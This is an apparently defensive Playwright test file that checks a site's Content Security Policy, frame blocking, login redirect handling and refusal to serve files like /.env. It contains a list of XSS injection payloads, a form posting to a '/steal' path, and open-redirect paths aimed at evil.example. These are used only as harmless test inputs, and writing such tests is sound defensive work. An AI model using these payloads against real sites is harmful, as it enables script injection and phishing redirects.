// Injected HTML, frames and links cannot do anything with the page under its real headers.
import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { avatar, typeLogin } from '../accounts.ts'
import { expect, faultTest } from '../fixtures.ts'
import { openPage } from '../../support/hydrated.ts'
import { stackUnderTest } from '../stack.ts'

/** A server on another origin. */
const test = faultTest.extend<{ other: { url: string; requests: string[] } }>({
  // oxlint-disable-next-line no-empty-pattern -- Playwright reads the names of fixtures from this pattern.
  other: async ({}, provide) => {
    const frames = `<iframe name="site" src="${stackUnderTest().siteUrl}/auth"></iframe><iframe name="plain" src="/plain"></iframe>`
    const pages: Record<string, [type: string, body: string]> = {
      '/evil.js': ['text/javascript', 'window.pwned = true'],
      '/plain': ['text/html', '<h1>May be framed</h1>'],
      '/frames': ['text/html', frames],
    }
    const requests: string[] = []
    const server = createServer(({ url = '/' }, response) => {
      requests.push(url)
      const [type, body] = pages[url] ?? ['text/plain', '']
      response.setHeader('content-type', type).end(body)
    })
    await once(server.listen(0, '127.0.0.1'), 'listening')
    const { port } = server.address() as AddressInfo
    // Another name than the site's, so another site to the browser.
    await provide({ url: `http://localhost:${port}`, requests })
    server.close()
    server.closeAllConnections()
  },
})

/** Attempts that the policy allows our own script. */
const PROBE = `window.probe = []
  try { (0, eval)('1'); probe.push('eval ran') } catch (error) { probe.push(error.name) }
  fetch(document.getElementById('injected').action).then(() => probe.push('sent'), () => probe.push('not sent'))`

test('nothing that is injected into the page runs, hides it or reaches another server', async ({ page, other }) => {
  const attacks: [html: string, ...directives: string[]][] = [
    ['<script>window.pwned = true</script>', 'script-src-elem'],
    ['<img src="/none" onerror="window.pwned = true">', 'script-src-attr'],
    [`<script src="${other.url}/evil.js"></script>`, 'script-src-elem'],
    [`<script type="module" src="${other.url}/evil.js"></script>`, 'script-src-elem'],
    ['<script src="data:text/javascript,window.pwned=true"></script>', 'script-src-elem'],
    ['<iframe src="data:text/html,<script>top.pwned=true</script>"></iframe>', 'frame-src'],
    [`<object data="${other.url}/evil.js"></object>`, 'object-src'],
    [`<img src="${other.url}/beacon">`, 'img-src'],
    ['<style>main { display: none }</style>', 'style-src-elem'],
    [`<base href="${other.url}/">`, 'base-uri'],
    [`<form id="injected" action="${other.url}/steal"></form>`, 'form-action'],
    ['<script src="/probe.js"></script>', 'script-src', 'connect-src'],
  ]
  await page.addInitScript(() => {
    Object.assign(window, { refused: new Set<string>() })
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      (window as unknown as { refused: Set<string> }).refused.add(effectiveDirective),
    )
  })
  await page.route('/probe.js', (route) => route.fulfill({ contentType: 'text/javascript', body: PROBE }))
  await page.route('/auth', async (route) => {
    const response = await route.fetch()
    const html = attacks.map(([injected]) => injected).join('')
    await route.fulfill({ response, body: (await response.text()).replace('</body>', `${html}</body>`) })
  })
  await openPage(page, '/auth')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  // The page delays the event of a press, so only the policy prevents this call.
  await page.locator('#injected').evaluate((form: HTMLFormElement) => form.submit())
  const refused = () => page.evaluate(() => [...(window as unknown as { refused: Set<string> }).refused].toSorted())
  await expect.poll(refused).toEqual([...new Set(attacks.flatMap(([, ...directives]) => directives))].toSorted())
  const probe = () => page.evaluate(() => Reflect.get(window, 'probe') as string[])
  await expect.poll(probe).toEqual(['EvalError', 'not sent'])
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
  expect(other.requests).toEqual([])
  expect(page.url()).not.toContain(other.url)
})

test('no one can put the site into a frame', async ({ page, other }) => {
  await page.goto(`${other.url}/frames`)
  const frame = (name: string) => page.frame({ name })
  await expect.poll(() => frame('plain')?.locator('h1').count()).toBe(1)
  await expect.poll(() => frame('site')?.url()).toBe('chrome-error://chromewebdata/')
})

test('a login does not follow an address in the link', async ({ page, user, other }) => {
  const target = encodeURIComponent(`${other.url}/plain`)
  await page.goto(`/auth?next=${target}&redirect=${target}&redirect_to=${target}&returnTo=${target}`)
  await (await typeLogin(page, user)).click()
  await expect(avatar(page)).toBeVisible()
  await expect(page).toHaveURL('/')
})

test('no path redirects to another host, and files for the host are not served', async ({ request }) => {
  const { siteUrl } = stackUnderTest()
  for (const path of ['//evil.example/', '/\\evil.example', '/%2f%2fevil.example', '/auth//evil.example/..']) {
    const answer = await request.get(`${siteUrl}${path}`, { maxRedirects: 0 })
    expect(answer.headers()['location'] ?? '/', path).toMatch(/^\/(?![/\\])/)
  }
  for (const path of ['/_headers', '/.env', '/.git/config', '/package.json']) {
    expect((await request.get(path)).status(), path).toBe(404)
  }
  expect((await request.get('/.well-known/security.txt')).headers()['content-type']).toContain('text/plain')
})
